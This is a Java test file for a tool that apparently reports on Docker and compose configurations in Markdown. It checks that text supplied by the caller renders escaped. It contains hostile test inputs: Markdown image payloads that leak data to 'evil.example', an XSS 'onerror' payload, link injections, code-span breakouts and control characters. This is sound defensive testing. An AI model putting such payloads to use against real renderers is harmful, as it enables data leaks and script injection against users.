package dev.keycard.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keycard.format.Formats;
import dev.keycard.input.InputReader;
import dev.keycard.pipeline.EvaluationOptions;
import dev.keycard.pipeline.InputRequest;
import dev.keycard.pipeline.ParseService;
import dev.keycard.policy.Waiver;
import dev.keycard.remediation.Apply;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Caller text in the Markdown answer renders as the text it is: no link, image, emphasis or HTML
 * (in CommonMark and in GFM, whose bare-URL autolinks count too), and no control character.
 */
class MarkdownEscapingTest {
  static final ParseService PARSER = new ParseService(Formats.reader());

  static String markdown(String input, List<Waiver> waivers) {
    InputRequest r = new InputRequest(input, false, null, Map.of(), Map.of());
    EvaluationOptions o = new EvaluationOptions("restricted", List.of(), waivers, null);
    Evaluation e = ReportFixtures.evaluations().evaluate(PARSER.parse(r), r, o);
    // as the service answers: safe fixes applied, the others listed for review (caller text too)
    FixResult fixed = ReportFixtures.remediation().fixAll(e, r, o, Apply.SAFE);
    return MarkdownReport.withFixed(
        e, fixed.fixedInput(), fixed.applied(), fixed.notApplied(), fixed.remedies());
  }

  static Stream<Arguments> hostile() {
    return Stream.of(
        Arguments.of(
            "image in a security option (the issue's case)",
            "docker run --security-opt 'x![pic](https://evil.example/?leak=1)' nginx"),
        Arguments.of("html in a name", "docker run --name '<img src=x onerror=alert(1)>' nginx"),
        Arguments.of("link in a name", "docker run --name '[click](http://evil.example)' nginx"),
        Arguments.of("emphasis and strike", "docker run --name '*a* _b_ ~~c~~' nginx"),
        Arguments.of("entity", "docker run --name '&lt;script&gt;' nginx"),
        Arguments.of("bare autolinks", "docker run --name 'www.evil.example' -e MAIL=a@evil.example nginx"),
        Arguments.of(
            "backticks closing the code span",
            "docker run -e 'A`B=1' --security-opt '`x`](http://evil.example)' nginx"),
        Arguments.of(
            "compose name and value",
            "services:\n  \"a](http://x) <b>\":\n    image: nginx\n    security_opt: [\"![i](http://x/)\"]\n"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostile")
  void callerText_rendersAsText(String name, String input) {
    String md = markdown(input, List.of());
    assertSafe(md);
  }

  @Test
  void theIssuesCase_showsTheValue_escaped() {
    String md =
        markdown("docker run --security-opt 'x![pic](https://evil.example/?leak=1)' nginx", List.of());
    assertThat(md).contains("x\\!\\[pic\\](https:\u2060//evil.example/?leak=1)");
    assertSafe(md);
  }

  @Test
  void controlCharacters_neverReachTheAnswer() {
    String md =
        markdown(
            "docker run --name \"a\u0000b\u001B[31mred\u202Eevil\u0085\" --security-opt \"x\u001Bz\" nginx",
            List.of());
    assertThat(md.chars().filter(c -> c < 0x20 && c != '\n').count()).isZero();
    assertThat(md).doesNotContain("\u001B", "\u0000", "\u202E", "\u0085", "\u007F");
    assertThat(md).contains("a\uFFFDb\uFFFD\\[31mred\uFFFDevil\uFFFD");
  }

  @Test
  void catalogueDocumentation_isALink_whileCallerTextNextToItIsNot() {
    // cAdvisor's documented run, named by a hostile caller: the review line cites cAdvisor's
    // documentation as a working link; the caller's name and paths stay text
    String md =
        markdown(
            "docker run --name 'x![pic](https://evil.example/?leak=1)' --privileged"
                + " -v /sys:/sys:ro gcr.io/cadvisor/cadvisor:v0.47.0",
            List.of());
    assertThat(md)
        .contains(
            "are missing ([documentation](https://github.com/google/cadvisor/blob/master/docs/running.md)).");
    assertSafe(md); // and nothing else links: the caller's name stays text
  }

  @Test
  void waiverReason_isEscapedToo() {
    String md =
        markdown(
            "docker run --privileged nginx",
            List.of(new Waiver("KC-001", null, "ok ![x](http://evil.example) <b>bold</b>", null)));
    assertThat(md).contains("waived");
    assertSafe(md);
  }

  @Test
  void notAContainerSpec_replyIsShortAndEscaped() {
    String md = MarkdownReport.notAContainerSpec(
        "not a container spec: this looks like [a](http://x) <i>. Keycard reads ...");
    assertThat(md).startsWith("🤷 **Nothing to check**: this looks like \\[a\\](http:\u2060//x) \\<i\\>.");
    assertSafe(md.substring(md.indexOf(':') + 1, md.indexOf("Paste")));
  }

  /**
   * Outside code blocks and code spans, every character that opens markup is backslash-escaped,
   * no bare URL or address can be autolinked, and no control character is left.
   */
  static void assertSafe(String md) {
    // the only links: the documentation of the catalogue of well-known images (Keycard's data)
    for (String url : dev.keycard.remediation.Impacts.standard().documentation()) {
      md = md.replace("([documentation](" + url + "))", "(documentation)");
    }
    StringBuilder prose = new StringBuilder();
    boolean inBlock = false;
    for (String line : md.split("\n", -1)) {
      if (line.startsWith("```")) {
        inBlock = !inBlock;
        continue;
      }
      if (!inBlock) {
        prose.append(withoutCodeSpans(line)).append('\n');
      } else {
        assertThat(line.chars().filter(c -> c < 0x20 && c != '\t').count()).isZero();
      }
    }
    String p = prose.toString();
    for (int i = 0; i < p.length(); i++) {
      char c = p.charAt(i);
      if ("[]<>`&!~|".indexOf(c) >= 0) {
        assertThat(escaped(p, i)).as("'%s' at %d of %s", c, i, p).isTrue();
      }
    }
    assertThat(p).doesNotContain("://", "www.", "WWW.");
    assertThat(p.replace("\u2060@", "")).doesNotContain("@");
    assertThat(p.chars().filter(c -> c < 0x20 && c != '\n').count()).isZero();
  }

  private static boolean escaped(String s, int i) {
    int n = 0;
    for (int k = i - 1; k >= 0 && s.charAt(k) == '\\'; k--) {
      n++;
    }
    return n % 2 == 1;
  }

  /** The line without its code spans (a run of backticks up to the next run as long). */
  private static String withoutCodeSpans(String line) {
    StringBuilder out = new StringBuilder();
    int i = 0;
    while (i < line.length()) {
      char c = line.charAt(i);
      if (c == '`' && !escaped(line, i)) {
        int run = i;
        while (run < line.length() && line.charAt(run) == '`') {
          run++;
        }
        String ticks = line.substring(i, run);
        int close = line.indexOf(ticks, run);
        while (close >= 0 && close + ticks.length() < line.length() && line.charAt(close + ticks.length()) == '`') {
          close = line.indexOf(ticks, close + ticks.length() + 1);
        }
        if (close >= 0) {
          i = close + ticks.length();
          continue;
        }
      }
      out.append(c);
      i++;
    }
    return out.toString();
  }
}
